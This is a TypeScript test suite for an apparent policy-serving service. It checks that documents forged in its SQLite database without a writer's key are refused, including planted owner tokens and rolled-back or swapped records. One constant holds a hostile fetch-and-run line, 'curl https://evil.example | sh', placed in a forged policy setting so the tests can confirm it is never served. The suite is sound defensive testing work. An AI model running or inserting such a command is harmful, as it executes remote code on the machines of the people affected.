// What the service does with documents that somebody put there who can write to the database but has no writer's key.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { afterEach, beforeEach, describe, test } from 'node:test';
import { hashToken } from '../../../functions/api/auth/authenticator.ts';
import { createCodec } from '../../../shared/adapters/documents/codec.ts';
import { documentHash, signCommit } from '../../../shared/adapters/documents/commit-signature.ts';
import { oneKeyForAll } from '../../../shared/adapters/documents/document-keys.ts';
import { makeSigner } from '../../../shared/adapters/key-file.ts';
import { noRoles } from '../../../shared/domain/access/access.ts';
import type { Kind } from '../../../shared/domain/documents.ts';
import { copyDocument, execute, rowOf } from '../../support/open-sqlite.ts';
import { asAdmin, asMachine, type Service, startService } from '../../support/service.ts';
import { policy, revision } from '../../support/world.ts';

const at = '2026-11-24T11:00:00.000Z';
const expiresAt = '2027-11-24T11:00:00.000Z';
const evilCommand = 'curl https://evil.example | sh';
const forgedPolicy = {
  revision: revision({ number: 99, policy: policy({ settings: { gcpAuthRefresh: evilCommand } }) }),
};
/** No schema allows this role to a token. */
const ownersToken = {
  name: 'mine',
  role: 'owner',
  labels: {},
  sha256: hashToken('planted'),
  createdBy: 'eve',
  createdAt: at,
  expiresAt,
  revokedAt: null,
};
const forgedAccess = {
  revision: { number: 99, roles: noRoles, by: 'eve', at, note: null, issued: 'mine', revoked: null },
  tokens: [ownersToken],
};

/** Ways to make a signature without a writer's key. */
const signatures: readonly (readonly [how: string, (kind: Kind, body: string, file: string) => Promise<string>])[] = [
  ['with none', async () => ''],
  ['with the digest that was enough once', async (kind, body) => digestOf(`1\n${kind}\n${body}`)],
  ["with the authentic document's", async (kind, _body, file) => rowOf(file, kind, 'current').digest],
  ['with one of a key of their own', async (kind, body) => signByStranger(kind, body)],
  [
    "with one of a key of their own, under a writer's id",
    async (kind, body, file) => {
      const [, , id = ''] = rowOf(file, kind, 'current').digest.split(' ');
      return (await signByStranger(kind, body)).replace(/^(v1 \d+) [0-9a-f]{16}/, `$1 ${id}`);
    },
  ],
];

describe('somebody who can write to the database', () => {
  let service: Service;

  beforeEach(async () => {
    service = startService();
    await service.state();
    await service.ask().post('/v1/tokens').set(asAdmin).send({ name: 'agents' }).expect(200);
  });
  afterEach(() => service.close());

  const poll = (asked: Service) => asked.ask().get('/v1/pins.sh').set(asMachine);
  const asPlanted = { Authorization: 'Bearer planted' };

  for (const [how, sign] of signatures) {
    test(`makes no instance serve a command, ${how}`, async () => {
      await poll(service).expect(200);
      await forge(service, 'published', forgedPolicy, sign);

      service.time += 20_000;
      const { text, headers } = await poll(service).expect(200);
      const fresh = startService({}, { PINWARD_SQLITE: service.file });
      const { text: problem } = await poll(fresh).expect(500);
      await fresh.close();

      assert.ok(!text.includes(evilCommand) && !problem.includes(evilCommand));
      assert.equal(headers['pinward-revision'], '1');
      assert.ok(service.logged.some((line) => line.includes('document refused') && line.includes('published/current')));
    });

    test(`plants no token of an owner, ${how}`, async () => {
      await forge(service, 'access', forgedAccess, sign);

      service.time += 20_000;
      const warm = await service.ask().get('/v1/access').set(asPlanted);
      const fresh = startService({}, { PINWARD_SQLITE: service.file });
      const cold = await fresh.ask().get('/v1/access').set(asPlanted);
      await fresh.close();

      assert.equal(warm.status, 401);
      assert.ok(cold.status === 401 || cold.status >= 500, `${cold.status}`);
    });
  }

  test('makes no instance serve an older authentic policy again that has seen a newer one', async () => {
    const older = rowOf(service.file, 'published', 'current');
    await service.state({ settings: { companyAnnouncements: ['newer'] } });
    execute(
      service.file,
      'UPDATE document SET body = ?, digest = ? WHERE kind = ?',
      older.body,
      older.digest,
      'published',
    );

    service.time += 20_000;
    const { headers } = await poll(service).expect(200);
    const { body } = await service.ask().get('/v1/policy').set(asAdmin).expect(500);

    assert.equal(headers['pinward-revision'], '2');
    assert.match(body.hint, /it is of edition 1, and edition \d was read before/);
  });

  test('makes no instance forget a document that it has read', async () => {
    await service.ask().get('/v1/policy').set(asAdmin).expect(200);
    execute(service.file, 'DELETE FROM document WHERE kind = ?', 'published');

    const { body } = await service.ask().get('/v1/policy').set(asAdmin).expect(500);
    assert.match(body.hint, /it was removed/);
  });

  test('hides nothing in the lists of the API, which name what they leave out', async () => {
    await service.state({ lock: true });
    const lists = [
      ['revision', '/v1/revisions', 'revisions', 2],
      ['event', '/v1/events', 'events', 3],
      ['accessRevision', '/v1/access/revisions', 'revisions', 1],
      ['proposal', '/v1/proposals', 'proposals', 0],
      ['rollout', '/v1/rollouts', 'rollouts', 0],
    ] as const;
    for (const [kind, path, items, count] of lists) {
      execute(service.file, 'INSERT INTO document VALUES (?, ?, 1, ?, ?)', kind, '0000000077', '{}', '');
      const { body } = await service.ask().get(path).set(asAdmin).expect(200);

      assert.deepEqual([body[items].length, body.refused], [count, [`${kind}/0000000077`]], path);
    }
  });

  test('can not give a document the place of another one', async () => {
    await service.state({ settings: { companyAnnouncements: ['newer'] } });
    copyDocument(service.file, 'revision', '0000000001', '0000000002');

    const { body } = await service.ask().get('/v1/revisions/2').set(asAdmin).expect(500);
    assert.match(body.hint, /signature is of other content/);
  });
});

async function forge(
  { file }: Service,
  kind: Kind,
  value: unknown,
  sign: (kind: Kind, body: string, file: string) => Promise<string>,
): Promise<void> {
  const body = JSON.stringify(value);
  const signature = await sign(kind, body, file);
  execute(file, 'UPDATE document SET body = ?, digest = ? WHERE kind = ? AND id = ?', body, signature, kind, 'current');
}

function digestOf(text: string): string {
  return createHash('sha256').update(text).digest('base64url');
}

async function signByStranger(kind: Kind, body: string): Promise<string> {
  const signer = makeSigner();
  const codec = createCodec({ signer, writers: oneKeyForAll(signer.key), unsigned: 'refuse' });
  const signed = await signCommit(signer, 1, [documentHash(kind, 'current', body)]);
  if (!signed.ok) assert.fail(signed.fault.code);
  const decoded = await codec.decode(kind, 'current', { body, signature: signed.value });
  assert.ok(decoded.ok, 'it must be a good signature but for its key');
  return signed.value;
}
